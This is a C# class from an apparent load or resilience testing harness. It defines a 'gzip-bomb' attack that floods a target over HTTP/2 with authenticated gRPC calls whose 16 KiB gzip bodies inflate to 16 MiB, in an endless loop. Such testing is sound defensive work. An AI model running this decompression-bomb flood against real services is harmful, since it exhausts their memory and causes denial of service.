using Metering.Load;

namespace Metering.Attacks;

/// <summary>
/// A message of some kilobytes that inflates to sixteen mebibytes, with a valid token. CWE-409.
/// </summary>
internal sealed class GzipBomb : Attack
{
    public override string Name => "gzip-bomb";

    public override string Does => "messages of 16 KiB that inflate to 16 MiB";

    public override IReadOnlyList<string> MetBy => ["WriteMessageBytes"];

    public override string Unit => "messages";

    public override double UnitsPerSecond => 500;

    private static readonly byte[] Bomb = Messages.GzipBomb(16 * 1024 * 1024);

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async();
        byte[] headers = HeaderBlock.OfCall(Messages.WritePath, lane.Target.Token, ("grpc-encoding", "gzip"));
        var batch = new FrameBatch();
        int stream = -1;
        while (true)
            await lane.SendAsync(connection, batch, most: 1, frames => AddCall(frames, stream += 2, headers));
    }

    private static void AddCall(FrameBatch frames, int stream, byte[] headers)
    {
        frames.Headers(stream, headers);
        for (int at = 0; at < Bomb.Length; at += Http2Frame.PayloadBytes)
        {
            int count = Math.Min(Http2Frame.PayloadBytes, Bomb.Length - at);
            frames.Data(stream, Bomb.AsSpan(at, count), endsStream: at + count == Bomb.Length);
        }
    }
}
